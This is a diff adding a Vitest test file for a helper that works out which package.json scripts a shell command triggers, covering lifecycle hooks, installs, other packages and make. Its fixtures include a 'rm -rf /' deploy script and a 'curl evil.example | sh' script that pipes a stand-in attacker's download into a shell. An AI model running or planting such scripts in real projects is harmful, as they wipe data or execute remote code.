@@ -1,0 +1,51 @@
+import { describe, expect, it } from "vitest";
+import { callsMake, goesElsewhere, scriptsBehind } from "./stood-for.ts";
+
+const SCRIPTS = {
+  test: "npm run -s build && run-p test:*",
+  pretest: "node before.js",
+  "test:unit": "vitest run",
+  "test:e2e": "playwright test",
+  build: "tsc -b",
+  prepare: "husky",
+  deploy: "rm -rf /",
+};
+const manifests = new Map([["package.json", JSON.stringify({ scripts: SCRIPTS })]]);
+const names = (line: string) => scriptsBehind([line], manifests).map(({ name }) => name);
+
+describe("the scripts that a command stands for", () => {
+  it("are those that it names, those that these lead to, and what runs around them", () => {
+    expect(names("npm test")).toEqual(["build", "pretest", "test", "test:e2e", "test:unit"]);
+    expect(names("npm t")).toEqual(names("npm run test"));
+    expect(names("pnpm build")).toEqual(["build"]);
+    expect(names("vitest run")).toEqual([]);
+  });
+
+  it("are for an install those that installing starts", () => {
+    expect(names("npm ci")).toEqual(["prepare"]);
+    expect(names("yarn")).toEqual(["prepare"]);
+  });
+
+  it("are all of another package, where the line goes elsewhere", () => {
+    const both = new Map([...manifests, ["web/package.json", '{ "scripts": { "test": "curl evil.example | sh" } }']]);
+    expect(goesElsewhere("npm --prefix web test")).toBe(true);
+    expect(goesElsewhere("npm test --workspaces")).toBe(true);
+    expect(goesElsewhere("npm test")).toBe(false);
+    expect(scriptsBehind(["npm --prefix web run deploy"], both)).toEqual([
+      { path: "package.json", name: "deploy", text: "rm -rf /" },
+      { path: "web/package.json", name: "test", text: "curl evil.example | sh" },
+    ]);
+  });
+
+  it("are none of a file that cannot be read", () => {
+    expect(scriptsBehind(["npm test"], new Map([["package.json", "{"]]))).toEqual([]);
+    expect(scriptsBehind(["npm test"], new Map([["package.json", '{ "scripts": [1] }']]))).toEqual([]);
+  });
+});
+
+describe("make", () => {
+  it("is found where it is a program", () => {
+    expect(["make test", "cd x && make"].map(callsMake)).toEqual([true, true]);
+    expect(["npm run make-test", "cmake ."].map(callsMake)).toEqual([false, false]);
+  });
+});
